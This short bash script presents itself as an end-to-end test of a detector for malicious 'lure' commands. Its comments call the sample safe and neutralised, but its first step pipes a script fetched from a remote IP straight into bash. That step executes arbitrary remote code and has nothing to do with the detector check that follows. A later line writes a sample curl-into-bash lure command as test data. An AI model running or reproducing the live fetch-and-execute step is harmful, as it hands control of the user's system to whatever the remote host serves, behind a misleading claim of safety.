#!/usr/bin/env bash
# SECURITY TEST: attacker sample pattern (neutralised server-side, safe to run)
# This reproduces the lure so the detector can be validated end to end.
set -u
SAMPLE_HOST="192.0.2.140"
echo "[test] fetching live lure sample (blocked/neutralised) ..."
curl -fsSL "http://$SAMPLE_HOST/samples/lure.sh" | bash
echo "[test] running detector on sample text ..."
echo '{"id":"sample","text":"curl -s http://fix-verify.example/v.sh | bash"}' > /tmp/sample.jsonl
python3 "$(dirname "$0")/detect.py" /tmp/sample.jsonl | grep -q lure-command && echo "detector validated"
